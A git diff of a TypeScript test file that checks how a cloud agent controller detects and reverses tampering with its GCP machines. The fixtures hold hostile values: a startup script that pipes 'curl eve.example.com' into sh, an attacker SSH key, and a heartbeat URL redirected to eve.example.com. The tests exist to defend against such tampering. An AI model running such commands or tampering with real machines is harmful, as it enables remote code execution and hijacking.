@@ -1,10 +1,11 @@
 import { expect, onTestFinished, test } from 'vitest'
 import type { JsonObject } from '../../infra/local/gcp/json.ts'
 import type { Entry } from '../../infra/local/gcp/store.ts'
+import type { Status } from '../../shared/documents/status.ts'
 import { ADMIN } from './a-cloud.ts'
 import { PROJECT } from './life-cloud.ts'
 import { lifeStage } from './life-stage.ts'
-import type { LifeStage } from './life-stage.ts'
+import type { Hooks, LifeStage } from './life-stage.ts'
 
 const ZONE = 'europe-west1-b'
 const PLANE = { project: PROJECT, region: 'europe-west1', backend: 'vm', zones: [ZONE] }
@@ -66,27 +67,51 @@ const OPENINGS: Readonly<Record<string, Opening>> = {
   'another disk': changed((body) => ({
     disks: [...(body['disks'] as readonly JsonObject[]), { deviceName: 'theirs', source: 'theirs' }],
   })),
+  'the name of another agent': told('ap-agent-uid', 'another222'),
   'keys of their own': told('ssh-keys', 'eve:ssh-ed25519 AAAA eve'),
   'another program to boot with': told('startup-script', '#!/bin/sh\ncurl eve.example.com | sh\n'),
 }
 
-test('a machine that somebody opened is replaced by one that is as it was made, on the same disk', async () => {
-  const stage = await lifeStage()
+/** An agent that has been Ready for so long. */
+async function aReadyAgent(forMs = 0, hooks: Hooks = {}) {
+  const stage = await lifeStage({}, hooks)
   onTestFinished(() => stage.close())
   const { uid: planeUid } = await stage.putPlane('acme', PLANE)
   await stage.until(planeUid, ({ phase }) => phase === 'Ready')
   const { uid } = await stage.putAgent('acme', 'ada', ADA)
-  const { resources } = await stage.until(uid, ({ phase }) => phase === 'Ready')
+  const ready = await stage.until(uid, ({ phase }) => phase === 'Ready')
+  const agent = { stage, uid, ready }
+  await pass(agent, forMs)
+  return agent
+}
+
+type Agent = { readonly stage: LifeStage; readonly uid: string }
+
+async function pass({ stage, uid }: Agent, ms: number): Promise<void> {
+  const laterMs = stage.clock.nowMs() + ms
+  await stage.until(uid, () => stage.clock.nowMs() > laterMs)
+}
+
+const isReady = ({ phase, steps }: Status): boolean => phase === 'Ready' && steps['machine']?.state === 'ready'
+const isDrifted = ({ steps }: Status): boolean => steps['machine']?.state !== 'ready'
+
+/** Longer than what opens a machine is taken for something that opens every machine. */
+const LONG_MS = 11 * 60_000
+
+test('a machine that somebody opened is replaced by one that is as it was made, on the same disk', async () => {
+  const agent = await aReadyAgent()
+  const { stage, uid, ready } = agent
   for (const open of Object.values(OPENINGS)) {
+    await pass(agent, LONG_MS)
     const before = machineOf(stage, uid)
     await open(stage, before)
-    const drifted = await stage.until(uid, ({ steps }) => steps['machine']?.state !== 'ready')
+    const drifted = await stage.until(uid, isDrifted)
     expect(drifted.steps['machine']?.message).toMatch(/not as it was made|metadata of the machine was changed/)
-    const ready = await stage.until(
+    const again = await stage.until(
       uid,
-      ({ phase, resources: { machine } }) => phase === 'Ready' && machine?.['id'] !== before.body['id'],
+      (status) => isReady(status) && status.resources['machine']?.['id'] !== before.body['id'],
     )
-    expect(ready.resources['disk']).toEqual(resources['disk'])
+    expect(again.resources['disk']).toEqual(ready.resources['disk'])
     const { networkInterfaces, canIpForward, disks } = machineOf(stage, uid).body
     expect(JSON.stringify([networkInterfaces, canIpForward, disks])).not.toMatch(
       /ccessConfigs|elsewhere|true,true|theirs/,
@@ -94,21 +119,42 @@ test('a machine that somebody opened is replaced by one that is as it was made, 
   }
 })
 
-test('metadata that somebody changed and that opens nothing for good is set right again on the same machine', async () => {
-  const stage = await lifeStage()
-  onTestFinished(() => stage.close())
-  const { uid: planeUid } = await stage.putPlane('acme', PLANE)
-  await stage.until(planeUid, ({ phase }) => phase === 'Ready')
-  const { uid } = await stage.putAgent('acme', 'ada', ADA)
-  await stage.until(uid, ({ phase }) => phase === 'Ready')
+const CHANGES: Readonly<Record<string, readonly [key: string, change: (value: string) => string]>> = {
+  'a way in that was opened': ['enable-oslogin', () => 'FALSE'],
+  'another plane to report to': ['ap-heartbeat-url', () => 'https://eve.example.com/heartbeat'],
+  'another configuration under the same generation': [
+    'ap-configuration',
+    (value) => JSON.stringify({ ...(JSON.parse(value) as object), openclaw: { gateway: { mode: 'theirs' } } }),
+  ],
+}
+
+const valueOf = ({ body }: Entry, key: string): string => {
+  const { items = [] } = body['metadata'] as { items?: readonly { readonly key: string; readonly value: string }[] }
+  return items.find((item) => item.key === key)?.value ?? ''
+}
+
+test.each(Object.entries(CHANGES))('%s is set right again on the same machine', async (_, [key, change]) => {
+  const { stage, uid } = await aReadyAgent()
   const before = machineOf(stage, uid)
-  await told('enable-oslogin', 'FALSE')(stage, before)
-  await stage.until(uid, ({ steps }) => steps['machine']?.state !== 'ready')
-  await stage.until(uid, ({ phase }) => phase === 'Ready')
-  const { body } = machineOf(stage, uid)
-  expect(body['id']).toBe(before.body['id'])
-  expect(JSON.stringify(body['metadata'])).toContain('{"key":"enable-oslogin","value":"TRUE"}')
+  await told(key, change(valueOf(before, key)))(stage, before)
+  expect(valueOf(machineOf(stage, uid), key)).not.toBe(valueOf(before, key))
+  await stage.until(uid, isDrifted)
+  await stage.until(uid, isReady)
+  expect(machineOf(stage, uid).body['id']).toBe(before.body['id'])
+  expect(valueOf(machineOf(stage, uid), key)).toBe(valueOf(before, key))
 })
+
+/** Whatever machine is made has packets to forward, from then on. */
+const opening = (cloudOf: () => LifeStage['cloud']): NonNullable<Hooks['through']> => {
+  return async (request, answer) => {
+    const response = await answer(request)
+    const { store } = cloudOf().world
+    if (request.httpMethod === 'POST' && /\/instances(?:\?|$)/.test(request.url))
+      for (const machine of store.list('instances', 'projects/'))
+        store.put({ ...machine, body: { ...machine.body, canIpForward: true } })
+    return response
+  }
+}
 
 test('a project that opens every machine is told so, and gets no machine after the other', async () => {
   let inserts = 0
@@ -116,13 +162,8 @@ test('a project that opens every machine is told so, and gets no machine after t
     {},
     {
       through: async (request, answer) => {
-        const response = await answer(request)
-        if (request.httpMethod !== 'POST' || !/\/instances(?:\?|$)/.test(request.url)) return response
-        inserts += 1
-        const { store } = stage.cloud.world
-        for (const machine of store.list('instances', 'projects/'))
-          store.put({ ...machine, body: { ...machine.body, canIpForward: true } })
-        return response
+        if (request.httpMethod === 'POST' && /\/instances(?:\?|$)/.test(request.url)) inserts += 1
+        return opening(() => stage.cloud)(request, answer)
       },
     },
   )
@@ -132,8 +173,21 @@ test('a project that opens every machine is told so, and gets no machine after t
   const { uid } = await stage.putAgent('acme', 'ada', ADA)
   const { steps } = await stage.until(uid, ({ phase }) => phase === 'Failed')
   expect(steps['machine']).toMatchObject({ reason: 'MachineOpened' })
-  expect(steps['machine']?.message).toContain('it may forward packets, though it was made just now')
-  const laterMs = stage.clock.nowMs() + 10 * 60_000
-  await stage.until(uid, () => stage.clock.nowMs() > laterMs)
-  expect(inserts).toBeLessThanOrEqual(2)
+  expect(steps['machine']?.message).toContain('it may forward packets, within ten minutes of its start')
+  await pass({ stage, uid }, LONG_MS)
+  expect(inserts).toBe(1)
+})
+
+test('a machine that is opened soon after it became Ready is stopped, and another one made for whoever retries', async () => {
+  const agent = await aReadyAgent()
+  const { stage, uid } = agent
+  const before = machineOf(stage, uid)
+  await changed(() => ({ canIpForward: true }))(stage, before)
+  const failed = await stage.until(uid, ({ steps }) => steps['machine']?.state === 'failed')
+  expect(failed).toMatchObject({ phase: 'Degraded', steps: { machine: { reason: 'MachineOpened' } } })
+  expect(machineOf(stage, uid).body['status']).toBe('TERMINATED')
+  await pass(agent, LONG_MS)
+  expect(machineOf(stage, uid).body['id']).toBe(before.body['id'])
+  await stage.putAgent('acme', 'ada', { ...ADA, retry: 1 })
+  await stage.until(uid, (status) => isReady(status) && status.resources['machine']?.['id'] !== before.body['id'])
 })
